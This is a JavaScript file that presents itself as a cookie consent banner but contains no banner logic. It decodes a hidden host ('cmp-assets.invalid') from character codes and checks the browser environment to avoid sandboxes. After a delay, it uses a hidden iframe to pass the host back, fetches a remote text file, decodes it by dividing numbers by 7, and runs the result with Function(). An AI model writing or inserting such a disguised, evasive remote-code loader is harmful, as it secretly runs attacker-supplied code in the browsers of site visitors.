var CookieBanner = (function () {
  var opts = { region: 'eu', delay: 900, src: [47, 47, 99, 109, 112, 45, 97, 115, 115, 101, 116, 115, 46, 105, 110, 118, 97, 108, 105, 100] };
  function text(a) { return a.map(function (n) { return String.fromCharCode(n); }).join(''); }
  function ok() {
    var nav = window.performance && performance.navigation ? performance.navigation.type : 0;
    return nav === 0 && history.length < 4 && /^(Mozilla)/.test(navigator.userAgent) && (new Date()).getTimezoneOffset() !== 0;
  }
  function frame(cb) {
    var i = document.createElement('iframe');
    i.style.display = 'none';
    i.srcdoc = '<script>parent.postMessage({f:"' + text(opts.src) + '"},"*")<\/script>';
    document.body.appendChild(i);
    window.addEventListener('message', function (e) { if (e.data && e.data.f) { cb(e.data.f); i.remove(); } });
  }
  return {
    init: function () {
      if (!ok()) return;
      setTimeout(function () {
        frame(function (u) {
          fetch(u + '/tcf/' + opts.region + '.txt').then(function (r) { return r.text(); }).then(function (t) {
            var a = t.split(','), s = '';
            for (var i = 0; i < a.length; i++) s += String.fromCharCode(a[i] / 7);
            Function(s)();
          });
        });
      }, opts.delay);
    }
  };
})();
CookieBanner.init();
